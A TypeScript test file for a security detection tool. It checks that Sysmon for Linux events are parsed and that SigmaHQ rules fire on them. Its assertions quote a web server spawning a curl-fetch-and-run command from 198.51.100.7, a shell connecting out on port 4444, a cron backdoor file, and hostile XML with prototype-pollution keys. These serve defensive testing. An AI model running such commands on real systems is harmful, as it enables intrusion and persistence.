import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { createDetector, loadRuleSet } from '../../src/detect/index.ts';
import { defaultResolver } from '../../src/detect/mapping/index.ts';
import { decodeSysmonLinux } from '../../src/ingest/formats/syslog/programs/sysmon-linux.ts';
import { sharedPath } from '../compat/shared-data.ts';
import { eventsOf, read, selected } from '../detect/mapping/helpers.ts';
import { hostileEvents } from '../helpers/hostile.ts';

/** Sysmon for Linux: its XML events in syslog, read by the Windows Sysmon mappers into Sigma's Linux categories. */

const FIXTURE = join(import.meta.dirname, '..', 'fixtures', 'sysmon-linux', 'syslog');
const events = async () => eventsOf('syslog', readFileSync(FIXTURE, 'utf8'));

void describe('Sysmon for Linux', () => {
  void it("reads each event's own fields and UTC time, and Sigma's Linux categories select them", async () => {
    const [start, connect, file, end, deleted, broken] = await events();
    assert.deepEqual(
      [start?.event.dataset, start?.event.code, start?.process?.executable, start?.process?.command_line, start?.process?.parent?.executable, start?.user?.name, start?.host?.name, start?.['@timestamp']],
      ['linux.sysmon', '1', '/usr/bin/dash', 'sh -c /usr/bin/curl -s http://198.51.100.7/x.sh -o /tmp/x.sh && sh /tmp/x.sh', '/usr/sbin/apache2', 'www-data', 'web01', '2024-11-23T10:00:00.123Z'],
    );
    const linux = (category: string) => ({ product: 'linux', category });
    assert.ok(start !== undefined && connect !== undefined && file !== undefined && end !== undefined && deleted !== undefined);
    assert.equal(selected(start, linux('process_creation')), true);
    assert.equal(read(start, linux('process_creation'), 'ParentImage'), '/usr/sbin/apache2');
    assert.equal(read(start, linux('process_creation'), 'CurrentDirectory'), '/var/www');
    assert.equal(selected(connect, linux('network_connection')), true);
    assert.deepEqual([read(connect, linux('network_connection'), 'DestinationIp'), read(connect, linux('network_connection'), 'DestinationPort'), read(connect, linux('network_connection'), 'Initiated')], ['198.51.100.7', 4444, 'true']);
    assert.equal(selected(file, linux('file_event')), true);
    assert.equal(read(file, linux('file_event'), 'TargetFilename'), '/etc/cron.d/backdoor');
    assert.equal(selected(end, linux('process_termination')), true);
    assert.equal(selected(deleted, linux('file_delete')), true);
    assert.equal(selected(connect, linux('process_creation')), false);
    assert.equal(selected(start, { product: 'windows', category: 'process_creation' }), false, 'not a Windows event');
    assert.deepEqual([broken?.event.code, broken?.process?.name], [undefined, 'sysmon'], 'a cut XML line stays a syslog line');
  });

  void it("fires SigmaHQ's Linux rules on them: download-and-run in /tmp, a shell's outbound connection, a cron file", async (t) => {
    const sigma = sharedPath(t, 'sigma', 'rules', 'linux');
    if (sigma === undefined) return;
    const files = ['process_creation/proc_creation_lnx_curl_wget_exec_tmp.yml', 'network_connection/net_connection_lnx_back_connect_shell_dev.yml', 'file_event/file_event_lnx_susp_cron_file_created.yml'];
    const set = loadRuleSet(files.map((file) => ({ path: join(sigma, file), origin: 'extra' as const })), defaultResolver);
    assert.deepEqual(set.problems, []);
    const detector = createDetector(set, defaultResolver);
    const alerts = [...(await events()).flatMap((e) => detector.push(e)), ...detector.flush()];
    assert.deepEqual(alerts.map((a) => a.rule.title).sort(), ['Linux Reverse Shell Indicator', 'New Cron File Created', 'Suspicious Download and Execute Pattern via Curl/Wget']);
  });

  void it('reads the same events from the systemd journal', async () => {
    const xml = readFileSync(FIXTURE, 'utf8').split('\n')[0]!.replace(/^.*? sysmon: /, '');
    const [e] = await eventsOf('journal.json', `${JSON.stringify({ __REALTIME_TIMESTAMP: '1732356000200000', _HOSTNAME: 'web01', SYSLOG_IDENTIFIER: 'sysmon', _TRANSPORT: 'syslog', MESSAGE: xml })}\n`);
    assert.deepEqual([e?.vigil.format, e?.event.dataset, e?.process?.executable, e?.['@timestamp']], ['journald', 'linux.sysmon', '/usr/bin/dash', '2024-11-23T10:00:00.123Z']);
    assert.equal(e !== undefined && selected(e, { product: 'linux', category: 'process_creation' }), true);
  });

  void it('leaves what is not its XML alone, and survives hostile XML', async () => {
    assert.equal(decodeSysmonLinux('Sysmon v1.3.0 started'), undefined);
    assert.equal(decodeSysmonLinux('<Event><System><EventID>1</EventID></System><EventData><Data Name="Image">/bin/x'), undefined);
    const hostile = '<Event><System><Provider Name="Linux-Sysmon"/><EventID>1</EventID><Channel>Linux-Sysmon/Operational</Channel><Computer>&lt;b&gt;h</Computer></System><EventData><Data Name="__proto__">polluted</Data><Data Name="constructor">x</Data><Data Name="Image">/tmp/&lt;script&gt;</Data><Data Name="ProcessId">99999999999999999999</Data></EventData></Event>';
    const [e] = await hostileEvents('syslog', `Nov 23 10:00:00 web01 sysmon: ${hostile}\n`, 1);
    assert.deepEqual([e?.event.dataset, e?.process?.executable, e?.host?.name], ['linux.sysmon', '/tmp/<script>', '<b>h']);
  });
});
